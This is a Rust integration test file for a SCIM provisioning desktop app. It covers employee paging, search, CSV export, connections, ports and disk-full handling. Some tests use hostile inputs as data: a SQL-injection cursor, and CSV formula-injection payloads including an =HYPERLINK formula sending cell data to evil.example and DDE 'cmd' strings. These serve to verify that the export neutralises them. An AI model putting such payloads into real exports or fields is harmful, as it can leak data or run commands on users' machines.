//! What the desktop app's screens are built from (`views`, `endpoint`), tested without a window:
//! the IPC commands of the shell are one-line calls into these.

use std::sync::Arc;

use scimdesk::connections::keychain::{Keychain, MemoryKeychain};
use scimdesk::connections::Provider;
use scimdesk::directory::employees::{EmployeeListQuery, StatusChoice};
use scimdesk::directory::WriteContext;
use scimdesk::endpoint::{Endpoint, EndpointStatus};
use scimdesk::views::{ActivityFilter, TunnelInput};
use scimdesk::Desk;
use serde_json::json;

async fn desk() -> (Desk, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let keychain: Arc<dyn Keychain> = Arc::new(MemoryKeychain::default());
    let desk = Desk::open(dir.path(), keychain).await.unwrap();
    (desk, dir)
}

fn ctx(desk_conn: &str) -> WriteContext {
    WriteContext {
        connection_id: desk_conn.to_owned(),
        connection_name: "Okta".to_owned(),
        provider: Provider::Okta,
        base_url: "http://127.0.0.1:8742/scim/v2/c".to_owned(),
    }
}

fn user(i: usize, title: &str) -> serde_json::Value {
    json!({
        "schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"],
        "userName": format!("person{i:03}@corp.example"),
        "name": {"givenName": format!("Person{i:03}"), "familyName": "Example"},
        "emails": [{"primary": true, "value": format!("person{i:03}@corp.example"), "type": "work"}],
        "title": title,
        "active": true
    })
}

/// Seeds `n` employees; every third is deactivated.
async fn seed(desk: &Desk, n: usize) -> Vec<String> {
    let c = ctx("c");
    let mut ids = Vec::new();
    for i in 0..n {
        let title = if i % 10 == 0 { "Engineer" } else { "Analyst" };
        let created = desk
            .directory()
            .create_user(&c, user(i, title))
            .await
            .unwrap();
        let id = created.id().to_owned();
        if i % 3 == 2 {
            desk.directory()
                .patch_user(
                    &c,
                    &id,
                    &json!({
                        "schemas": ["urn:ietf:params:scim:api:messages:2.0:PatchOp"],
                        "Operations": [{"op": "replace", "value": {"active": false}}]
                    }),
                    None,
                )
                .await
                .unwrap();
        }
        ids.push(id);
    }
    ids
}

fn query(status: StatusChoice, limit: u32) -> EmployeeListQuery {
    EmployeeListQuery {
        status,
        limit,
        ..Default::default()
    }
}

#[tokio::test]
async fn the_employee_table_pages_forward_back_and_to_the_end_by_cursor() {
    let (desk, _dir) = desk().await;
    let ids = seed(&desk, 120).await;

    let first = desk
        .employee_list(&query(StatusChoice::All, 50))
        .await
        .unwrap();
    assert_eq!((first.total, first.offset, first.items.len()), (120, 0, 50));
    assert_eq!(first.items[0].id, ids[0]);
    assert!(first.prev.is_none());
    let next = first.next.clone().expect("a second page");

    let second = desk
        .employee_list(&EmployeeListQuery {
            after: Some(next),
            ..query(StatusChoice::All, 50)
        })
        .await
        .unwrap();
    assert_eq!((second.offset, second.items.len()), (50, 50));
    assert_eq!(second.items[0].id, ids[50]);
    let third = desk
        .employee_list(&EmployeeListQuery {
            after: second.next.clone(),
            ..query(StatusChoice::All, 50)
        })
        .await
        .unwrap();
    assert_eq!((third.offset, third.items.len()), (100, 20));
    assert!(third.next.is_none(), "the last page has no next");

    // Back from the third page lands exactly on the second.
    let back = desk
        .employee_list(&EmployeeListQuery {
            before: third.prev.clone(),
            ..query(StatusChoice::All, 50)
        })
        .await
        .unwrap();
    assert_eq!(back.offset, 50);
    assert_eq!(
        back.items.iter().map(|e| &e.id).collect::<Vec<_>>(),
        second.items.iter().map(|e| &e.id).collect::<Vec<_>>()
    );
    assert!(back.prev.is_some() && back.next.is_some());
    let back_to_first = desk
        .employee_list(&EmployeeListQuery {
            before: back.prev.clone(),
            ..query(StatusChoice::All, 50)
        })
        .await
        .unwrap();
    assert_eq!(back_to_first.offset, 0);
    assert!(back_to_first.prev.is_none(), "the first page has no prev");
    assert_eq!(back_to_first.items[0].id, ids[0]);

    let last = desk
        .employee_list(&EmployeeListQuery {
            last: true,
            ..query(StatusChoice::All, 50)
        })
        .await
        .unwrap();
    assert_eq!((last.offset, last.items.len()), (70, 50));
    assert_eq!(last.items.last().unwrap().id, ids[119]);
    assert!(last.next.is_none() && last.prev.is_some());

    // A cursor that is not one is a readable error, not a crash.
    let bad = desk
        .employee_list(&EmployeeListQuery {
            after: Some("x'; DROP TABLE employees".into()),
            ..query(StatusChoice::All, 50)
        })
        .await
        .unwrap_err();
    assert!(bad.message.contains("cursor"), "{bad}");
}

#[tokio::test]
async fn the_employee_table_filters_by_status_and_search() {
    let (desk, _dir) = desk().await;
    seed(&desk, 30).await;
    let active = desk
        .employee_list(&query(StatusChoice::Active, 50))
        .await
        .unwrap();
    let deactivated = desk
        .employee_list(&query(StatusChoice::Deactivated, 50))
        .await
        .unwrap();
    assert_eq!((active.total, deactivated.total), (20, 10));
    assert!(deactivated.items.iter().all(|e| e.status == "deactivated"));

    let engineers = desk
        .employee_list(&EmployeeListQuery {
            search: Some("  engineer ".into()),
            ..query(StatusChoice::All, 50)
        })
        .await
        .unwrap();
    assert_eq!(engineers.total, 3, "person000, 010, 020");
    let by_full_name = desk
        .employee_list(&EmployeeListQuery {
            search: Some("Person007 Example".into()),
            ..query(StatusChoice::All, 50)
        })
        .await
        .unwrap();
    assert_eq!(by_full_name.items.len(), 1);
    // LIKE's wildcards are searched for literally.
    let percent = desk
        .employee_list(&EmployeeListQuery {
            search: Some("%".into()),
            ..query(StatusChoice::All, 50)
        })
        .await
        .unwrap();
    assert_eq!(percent.total, 0);

    let (a, d) = desk.directory().status_counts().await.unwrap();
    assert_eq!((a, d), (20, 10));
}

#[tokio::test]
async fn export_writes_every_matching_employee_as_csv() {
    let (desk, dir) = desk().await;
    seed(&desk, 1_234).await;
    let path = dir.path().join("out").join("employees.csv");
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    let n = desk
        .export_employees(&query(StatusChoice::Active, 50), &path)
        .await
        .unwrap();
    assert_eq!(n, 823, "paging is ignored: every active employee");
    let mut reader = csv::Reader::from_path(&path).unwrap();
    let headers = reader.headers().unwrap().clone();
    assert_eq!(&headers[0], "First name");
    assert_eq!(&headers[2], "Email");
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 823);
    assert_eq!(&rows[0][2], "person000@corp.example");
    assert!(rows.iter().all(|r| &r[9] == "active"));
    // Nothing but the file is left behind in the folder.
    let left: Vec<_> = std::fs::read_dir(path.parent().unwrap()).unwrap().collect();
    assert_eq!(left.len(), 1);

    let missing = dir.path().join("no-such-folder").join("x.csv");
    let err = desk
        .export_employees(&query(StatusChoice::All, 50), &missing)
        .await
        .unwrap_err();
    assert!(
        err.message.starts_with("The file could not be written"),
        "{err}"
    );
}

/// A title or a name Okta sends is whatever someone typed into the HR system: in the export,
/// cells a spreadsheet would run as a formula start with `'`, and every other cell is exact.
#[tokio::test]
async fn export_writes_cells_a_spreadsheet_would_run_as_text() {
    let (desk, dir) = desk().await;
    let mut body = user(1, "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")");
    body["name"] = json!({"givenName": "+1+cmd|' /C calc'!A0", "familyName": "-2+3"});
    body["urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"] = json!({
        "department": "@SUM(1+1)*cmd|' /C calc'!A0",
        "division": "\t=1+1",
        "employeeNumber": "\r=2",
    });
    body["addresses"] = json!([{"type": "work", "locality": "Saint-Étienne = home"}]);
    desk.directory().create_user(&ctx("c"), body).await.unwrap();
    let path = dir.path().join("employees.csv");
    desk.export_employees(&query(StatusChoice::All, 50), &path)
        .await
        .unwrap();
    let mut reader = csv::Reader::from_path(&path).unwrap();
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| {
        let i = headers.iter().position(|h| h == name).unwrap();
        row[i].to_owned()
    };
    assert_eq!(cell("First name"), "'+1+cmd|' /C calc'!A0");
    assert_eq!(cell("Last name"), "'-2+3");
    assert_eq!(
        cell("Job title"),
        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(cell("Department"), "'@SUM(1+1)*cmd|' /C calc'!A0");
    // Trimmed by the mapping, so the tab and CR are gone, and what starts the cell is `=`.
    assert_eq!(cell("Business unit"), "'=1+1");
    assert_eq!(cell("Employee ID"), "'=2");
    // Untouched: a value with `=` later on, and everything else.
    assert_eq!(cell("Location"), "Saint-Étienne = home");
    assert_eq!(cell("Email"), "person001@corp.example");
    assert_eq!(cell("Status"), "active");
}

#[tokio::test]
async fn connections_views_carry_base_urls_and_last_contact_and_refuse_bad_names() {
    let (desk, _dir) = desk().await;
    let mut events = desk.subscribe();
    let added = desk
        .add_connection_view("Okta production", Provider::Okta)
        .await
        .unwrap();
    assert_eq!(
        added.base_url,
        format!("http://127.0.0.1:8742/scim/v2/{}", added.id)
    );
    assert!(added.last_contact.is_none());
    assert_eq!(
        events.try_recv().unwrap(),
        scimdesk::desk::ChangeEvent::Connections
    );
    let token = desk.connection_token(&added.id).await.unwrap();
    assert!(token.len() >= 43);

    for (bad, field) in [("", "name"), ("   ", "name"), ("okta PRODUCTION", "name")] {
        let e = desk
            .add_connection_view(bad, Provider::Okta)
            .await
            .unwrap_err();
        assert_eq!(e.field.as_deref(), Some(field), "{bad:?}: {e}");
        assert!(e.message.chars().next().unwrap().is_uppercase(), "{e}");
    }
    let long = "x".repeat(65);
    assert_eq!(
        desk.add_connection_view(&long, Provider::Okta)
            .await
            .unwrap_err()
            .field
            .as_deref(),
        Some("name")
    );

    desk.connections()
        .record_contact(
            &added.id,
            "2026-11-29T10:00:00Z",
            401,
            Some("token refused"),
        )
        .await
        .unwrap();
    let listed = desk.connection_views().await.unwrap();
    let contact = listed[0].last_contact.clone().unwrap();
    assert_eq!(
        (contact.status, contact.ok, contact.detail.as_deref()),
        (401, false, Some("token refused"))
    );

    desk.delete_connection_view(&added.id).await.unwrap();
    assert!(desk.connection_views().await.unwrap().is_empty());
    assert!(desk.connection_token(&added.id).await.is_err());
}

#[tokio::test]
async fn the_overview_counts_and_the_okta_switch() {
    let (desk, _dir) = desk().await;
    seed(&desk, 6).await;
    desk.add_connection_view("One", Provider::Okta)
        .await
        .unwrap();
    let status = EndpointStatus::Serving {
        listen: "127.0.0.1:8742".into(),
    };
    let o = desk.overview(status.clone()).await.unwrap();
    assert!(o.okta_enabled);
    assert_eq!(
        (
            o.connection_count,
            o.employees_active,
            o.employees_deactivated
        ),
        (1, 4, 2)
    );
    desk.set_provider_enabled(Provider::Okta, false)
        .await
        .unwrap();
    assert!(!desk.overview(status.clone()).await.unwrap().okta_enabled);
    assert!(!desk.config().await.unwrap().okta_enabled);
    desk.set_provider_enabled(Provider::Okta, true)
        .await
        .unwrap();
    assert!(desk.overview(status).await.unwrap().okta_enabled);
}

#[tokio::test]
async fn employee_detail_has_every_attribute_groups_manager_and_activity() {
    let (desk, _dir) = desk().await;
    let c = ctx("c");
    let boss = desk
        .directory()
        .create_user(&c, user(1, "Director"))
        .await
        .unwrap();
    let mut body = user(2, "Analyst");
    body["urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"] =
        json!({"manager": {"value": "person001@corp.example"}, "department": "Sales"});
    let jane = desk.directory().create_user(&c, body).await.unwrap();
    let jane_id = jane.id();
    desk.directory()
        .create_group(
            &c,
            json!({
                "schemas": ["urn:ietf:params:scim:schemas:core:2.0:Group"],
                "displayName": "Sales team",
                "members": [{"value": jane_id}]
            }),
        )
        .await
        .unwrap();

    let detail = desk.employee_detail(jane_id).await.unwrap();
    assert_eq!(detail.employee.manager_id.as_deref(), Some(boss.id()));
    assert_eq!(detail.manager_name.as_deref(), Some("Person001 Example"));
    assert_eq!(detail.groups.len(), 1);
    assert_eq!(detail.groups[0].display_name, "Sales team");
    assert!(detail
        .attributes
        .contains(&("enterprise.department".into(), "Sales".into())));
    assert!(detail.activity.iter().any(|a| a.operation == "create"));
    assert!(desk.employee_detail("nobody").await.is_err());

    let sales = desk
        .activity_list(&ActivityFilter {
            search: Some("person002".into()),
            limit: 10,
            ..Default::default()
        })
        .await
        .unwrap();
    assert!(!sales.is_empty());
    assert!(sales.iter().all(|a| a.summary.contains("person002")));
}

/// The employee detail names the provider and connection that last wrote the employee, and
/// still names the provider (from the activity lines) once the connection is deleted.
#[tokio::test]
async fn employee_detail_names_the_provider_of_the_connection_that_wrote_the_employee() {
    let (desk, _dir) = desk().await;
    let entra = desk
        .add_connection_view("Entra", Provider::Entra)
        .await
        .unwrap();
    let c = WriteContext {
        connection_id: entra.id.clone(),
        connection_name: entra.name.clone(),
        provider: entra.provider,
        base_url: entra.base_url.clone(),
    };
    let jane = desk
        .directory()
        .create_user(&c, user(1, "Analyst"))
        .await
        .unwrap();
    let detail = desk.employee_detail(jane.id()).await.unwrap();
    assert_eq!(detail.connection_name.as_deref(), Some("Entra"));
    assert_eq!(detail.provider, Some(Provider::Entra));
    assert_eq!(detail.activity[0].provider, Some(Provider::Entra));

    desk.delete_connection_view(&entra.id).await.unwrap();
    let detail = desk.employee_detail(jane.id()).await.unwrap();
    assert_eq!(detail.connection_name, None);
    assert_eq!(detail.provider, Some(Provider::Entra));
}

/// Reconcile reads Okta's API: every reconcile view refuses an Entra connection with a
/// sentence, and an Okta connection is unaffected.
#[tokio::test]
async fn reconcile_is_refused_for_an_entra_connection() {
    let (desk, _dir) = desk().await;
    let entra = desk
        .add_connection_view("Entra", Provider::Entra)
        .await
        .unwrap();
    let okta = desk
        .add_connection_view("Okta", Provider::Okta)
        .await
        .unwrap();
    let refusals = [
        desk.reconcile_state(&entra.id).await.unwrap_err(),
        desk.start_reconcile_view(&entra.id).await.unwrap_err(),
        desk.apply_reconcile_view(&entra.id, None)
            .await
            .unwrap_err(),
        desk.set_okta_api_view(
            &entra.id,
            scimdesk::reconcile_views::OktaApiInput {
                org_url: "https://acme.okta.com".into(),
                app_id: "0oa1".into(),
                token: "t".into(),
            },
        )
        .await
        .unwrap_err(),
    ];
    for e in refusals {
        assert!(
            e.message.contains("reconcile reads Okta's API")
                && e.message.contains("for Okta connections only"),
            "{e}"
        );
    }
    assert!(desk.reconcile_state(&okta.id).await.is_ok());
}

#[tokio::test]
async fn the_tunnel_dialog_validates_and_saves() {
    let (desk, _dir) = desk().await;
    let e = desk
        .set_tunnel_input(TunnelInput {
            mode: "own".into(),
            url: Some("http://not-https.example".into()),
            ..Default::default()
        })
        .await
        .unwrap_err();
    assert_eq!(e.field.as_deref(), Some("url"), "{e}");
    let e = desk
        .set_tunnel_input(TunnelInput {
            mode: "own".into(),
            ..Default::default()
        })
        .await
        .unwrap_err();
    assert_eq!(e.field.as_deref(), Some("url"));
    let e = desk
        .set_tunnel_input(TunnelInput {
            mode: "ngrok".into(),
            ..Default::default()
        })
        .await
        .unwrap_err();
    assert!(e.message.contains("authtoken"), "{e}");

    let status = desk
        .set_tunnel_input(TunnelInput {
            mode: "own".into(),
            url: Some("https://desk.example.com/".into()),
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!(status.public_url, "https://desk.example.com");
    assert!(status.reachable_by_okta);
    let views = desk.connection_views().await.unwrap();
    assert!(views.is_empty());
    let added = desk
        .add_connection_view("Okta", Provider::Okta)
        .await
        .unwrap();
    assert_eq!(
        added.base_url,
        format!("https://desk.example.com/scim/v2/{}", added.id)
    );
}

#[tokio::test]
async fn the_endpoint_reports_a_taken_port_and_moves_to_another() {
    let (desk, _dir) = desk().await;
    // Someone else holds the configured port.
    let squatter = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let taken = squatter.local_addr().unwrap();
    desk.set_config("listen", &taken.to_string()).await.unwrap();

    desk.connections()
        .add("Okta", Provider::Okta)
        .await
        .unwrap();
    let port_windows = || async {
        let now = time::OffsetDateTime::now_utc();
        let all = desk.reachability().recent(10, now).await.unwrap();
        all.into_iter()
            .filter(|w| w.cause == scimdesk::reachability::Cause::PortTaken)
            .collect::<Vec<_>>()
    };

    let endpoint = Endpoint::new(desk.clone());
    let status = endpoint.start().await;
    match &status {
        EndpointStatus::PortInUse { listen } => assert_eq!(listen, &taken.to_string()),
        other => panic!("expected port_in_use, got {other:?}"),
    }
    assert_eq!(endpoint.status(), status);
    // Okta cannot reach a taken port: a reachability window, open until the endpoint serves.
    let open = port_windows().await;
    assert_eq!(open.len(), 1, "{open:?}");
    assert_eq!(open[0].ended_at, None);

    // Bad ports are refused and leave things as they were.
    for bad in [80, 70_000] {
        let e = endpoint.change_port(bad).await.unwrap_err();
        assert!(e.to_string().contains("1024 to 65535"), "{e}");
    }
    // Another taken port is refused too.
    let e = endpoint
        .change_port(u32::from(taken.port()))
        .await
        .unwrap_err();
    assert!(e.to_string().contains("already in use"), "{e}");
    // The app's words point at its port field, not at the CLI's command.
    let shown = scimdesk::views::AppError::from(e);
    assert_eq!(shown.field.as_deref(), Some("port"));
    assert!(
        shown.message.contains(&taken.to_string()),
        "{}",
        shown.message
    );
    assert!(!shown.message.contains("scimdesk"), "{}", shown.message);

    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = free.local_addr().unwrap().port();
    drop(free);
    let status = endpoint.change_port(u32::from(port)).await.unwrap();
    assert_eq!(
        status,
        EndpointStatus::Serving {
            listen: format!("127.0.0.1:{port}")
        }
    );
    let closed = port_windows().await;
    assert_eq!(closed.len(), 1, "{closed:?}");
    assert!(closed[0].ended_at.is_some(), "{closed:?}");
    assert_eq!(desk.config().await.unwrap().listen.port(), port);
    // It answers SCIM there.
    let body = reqwest::get(format!("http://127.0.0.1:{port}/scim/v2/nope/Users"))
        .await
        .unwrap();
    assert_eq!(body.status(), 401);

    endpoint.stop().await;
    assert!(
        reqwest::get(format!("http://127.0.0.1:{port}/scim/v2/nope/Users"))
            .await
            .is_err()
    );
    drop(squatter);
}

/// The app's endpoint serves an address other machines reach only with the admin's permission:
/// one stored without it (by hand, or before the rule) is a failure to show with the way out, and
/// the port picker, which keeps the address, moves it only where it was allowed.
#[tokio::test]
async fn the_endpoint_refuses_an_address_other_machines_reach_unless_allowed() {
    let (desk, _dir) = desk().await;
    desk.db()
        .write(|c| {
            c.execute(
                "INSERT INTO settings (key, value) VALUES ('listen', '0.0.0.0:0')",
                (),
            )
            .map(|_| ())
            .map_err(scimdesk::db::StoreError::from)
        })
        .await
        .unwrap();
    let endpoint = Endpoint::new(desk.clone());
    match endpoint.start().await {
        EndpointStatus::Failed { listen, message } => {
            assert_eq!(listen, "0.0.0.0:0");
            assert!(message.contains("--allow-remote"), "{message}");
        }
        other => panic!("expected failed, got {other:?}"),
    }
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = free.local_addr().unwrap().port();
    drop(free);
    let refused = endpoint.change_port(u32::from(port)).await.unwrap_err();
    assert!(refused.to_string().contains("--allow-remote"), "{refused}");
    let app_error: scimdesk::views::AppError = refused.into();
    assert_eq!(app_error.field.as_deref(), Some("port"));
    assert_eq!(desk.config().await.unwrap().listen.to_string(), "0.0.0.0:0");
    // Typed into the app (or `config set listen` without --allow-remote): refused too.
    assert!(desk.set_config("listen", "0.0.0.0:9999").await.is_err());

    // Allowed by the admin, it serves there, and a new port keeps the permission.
    desk.set_listen("0.0.0.0:0", true).await.unwrap();
    assert!(matches!(
        endpoint.start().await,
        EndpointStatus::Serving { .. }
    ));
    let status = endpoint.change_port(u32::from(port)).await.unwrap();
    assert_eq!(
        status,
        EndpointStatus::Serving {
            listen: format!("0.0.0.0:{port}")
        }
    );
    let config = desk.config().await.unwrap();
    assert!(config.allow_remote, "{config:?}");
    endpoint.stop().await;
}

/// Sets the writer's `max_page_count`: SQLite then answers a write that needs a page beyond it
/// with SQLITE_FULL, as it does when the disk is full (the black-box test fills a real one).
async fn cap_pages(desk: &Desk, pages: u32) {
    desk.db()
        .write(move |c| {
            c.execute_batch(&format!("PRAGMA max_page_count = {pages}"))
                .map_err(scimdesk::db::StoreError::from)
        })
        .await
        .unwrap();
}

/// When a write finds the disk full, Okta gets a 503 that says so, and the app's overview says
/// so (free space, data directory) with a `disk` change event, until a write succeeds again.
#[tokio::test]
async fn a_full_disk_shows_in_the_overview_until_writes_succeed_again() {
    use scimdesk::desk::ChangeEvent;
    let (desk, dir) = desk().await;
    let mut events = desk.subscribe();
    let endpoint = EndpointStatus::Starting {
        listen: String::new(),
    };
    assert_eq!(
        desk.overview(endpoint.clone()).await.unwrap().disk_full,
        None
    );
    // The smallest cap SQLite allows: the pages the database has now.
    cap_pages(&desk, 1).await;
    let mut refused = None;
    for i in 0..2_000 {
        if let Err(e) = desk
            .directory()
            .create_user(&ctx("c"), user(i, "Engineer"))
            .await
        {
            refused = Some(e);
            break;
        }
    }
    let refused = refused.expect("a write ran out of pages").to_scim();
    assert_eq!(refused.status, 503, "{refused:?}");
    assert!(refused.detail.contains("disk") && refused.detail.contains("full"));
    let full = desk
        .overview(endpoint.clone())
        .await
        .unwrap()
        .disk_full
        .expect("the overview says the disk is full");
    assert_eq!(full.data_dir, dir.path().display().to_string());
    assert!(full.free_bytes.is_some(), "{full:?}");
    let told = tokio::time::timeout(std::time::Duration::from_secs(30), async {
        loop {
            match events.recv().await {
                Ok(ChangeEvent::Disk) => return,
                Err(tokio::sync::broadcast::error::RecvError::Closed) => panic!("no more events"),
                _ => {}
            }
        }
    })
    .await;
    assert!(told.is_ok(), "no `disk` change event");

    // Room again: the next write goes through, and the banner's state is gone.
    cap_pages(&desk, 1_000_000).await;
    desk.directory()
        .create_user(&ctx("c"), user(9_999, "Engineer"))
        .await
        .unwrap();
    assert_eq!(desk.overview(endpoint).await.unwrap().disk_full, None);
    let told = tokio::time::timeout(std::time::Duration::from_secs(30), async {
        loop {
            match events.recv().await {
                Ok(ChangeEvent::Disk) => return,
                Err(tokio::sync::broadcast::error::RecvError::Closed) => panic!("no more events"),
                _ => {}
            }
        }
    })
    .await;
    assert!(told.is_ok(), "no `disk` change event when writes resumed");
}

/// A change made by another process (here a second `Desk` on the same directory, as a
/// `scimdesk` command beside the app would be) reaches the app's subscribers as a reload.
#[tokio::test]
async fn changes_made_by_another_process_are_announced_as_a_reload() {
    use scimdesk::desk::ChangeEvent;
    use std::time::Duration;
    let (desk, dir) = desk().await;
    let mut events = desk.subscribe();
    let follower = {
        let desk = desk.clone();
        tokio::spawn(async move { desk.follow_other_processes(Duration::from_millis(50)).await })
    };
    // Nothing changes: nothing is announced.
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(events.try_recv().is_err(), "a reload without a change");

    let other = Desk::open(dir.path(), Arc::new(MemoryKeychain::default()))
        .await
        .unwrap();
    other
        .set_config("public-url", "https://scim.example.com")
        .await
        .unwrap();
    let reload = tokio::time::timeout(Duration::from_secs(60), async {
        loop {
            if let Ok(ChangeEvent::Reload) = events.recv().await {
                return;
            }
        }
    })
    .await;
    assert!(
        reload.is_ok(),
        "the other process's change was not announced"
    );
    assert_eq!(
        desk.config().await.unwrap().public_url.as_deref(),
        Some("https://scim.example.com")
    );
    follower.abort();
}

#[tokio::test]
async fn reachability_windows_are_listed_newest_first_and_a_dismissal_outlives_a_restart() {
    use scimdesk::desk::ChangeEvent;
    use scimdesk::reachability::Cause;
    use std::time::Duration;

    let at = |s: &str| {
        time::OffsetDateTime::parse(s, &time::format_description::well_known::Rfc3339).unwrap()
    };
    let beat = Duration::from_secs(30);
    let (desk, dir) = desk().await;
    assert!(desk.reachability_windows().await.unwrap().is_empty());
    let okta = desk
        .add_connection_view("Okta", Provider::Okta)
        .await
        .unwrap();

    // Killed at 22:10, started again at 07:45: one window, and the event an open app follows.
    let r = desk.reachability();
    r.start(at("2025-12-07T22:09:40Z"), beat).await.unwrap();
    r.beat(at("2025-12-07T22:10:00Z"), beat).await.unwrap();
    r.start(at("2025-12-08T07:45:00Z"), beat).await.unwrap();
    let mut events = desk.subscribe();
    desk.set_config("okta", "off").await.unwrap();
    desk.set_config("okta", "on").await.unwrap();
    let mut seen = Vec::new();
    while let Ok(e) = events.try_recv() {
        seen.push(e);
    }
    assert!(seen.contains(&ChangeEvent::Reachability), "{seen:?}");

    let windows = desk.reachability_windows().await.unwrap();
    assert_eq!(windows.len(), 2, "{windows:?}");
    assert_eq!(windows[0].cause, Cause::OktaOff, "newest first");
    let night = &windows[1];
    assert_eq!(night.cause, Cause::NotRunning);
    assert_eq!(night.started_at, "2025-12-07T22:10:00.000Z");
    assert_eq!(night.ended_at.as_deref(), Some("2025-12-08T07:45:00.000Z"));
    assert_eq!(night.seconds, 9.0 * 3600.0 + 35.0 * 60.0);
    assert_eq!(night.clean_stop, Some(false));
    assert_eq!(night.connections.len(), 1);
    assert_eq!(night.connections[0].id, okta.id);
    assert_eq!(night.connections[0].name.as_deref(), Some("Okta"));
    assert!(!night.dismissed);
    // What the UI gets: the codes and values, in the generated type's shape.
    let json = serde_json::to_value(night).unwrap();
    assert_eq!(json["cause"], "not_running");
    assert_eq!(json["dismissed"], false);

    let mut events = desk.subscribe();
    let after = desk.dismiss_reachability_window(night.id).await.unwrap();
    assert!(after.iter().find(|w| w.id == night.id).unwrap().dismissed);
    assert!(!after[0].dismissed, "only the one dismissed");
    assert_eq!(events.try_recv().unwrap(), ChangeEvent::Reachability);
    assert!(desk.dismiss_reachability_window(999).await.is_err());

    // The app restarts: still dismissed.
    let night_id = night.id;
    desk.close().await;
    drop(desk);
    let keychain: Arc<dyn Keychain> = Arc::new(MemoryKeychain::default());
    let desk = Desk::open(dir.path(), keychain).await.unwrap();
    let windows = desk.reachability_windows().await.unwrap();
    assert!(windows.iter().find(|w| w.id == night_id).unwrap().dismissed);
    desk.close().await;
}
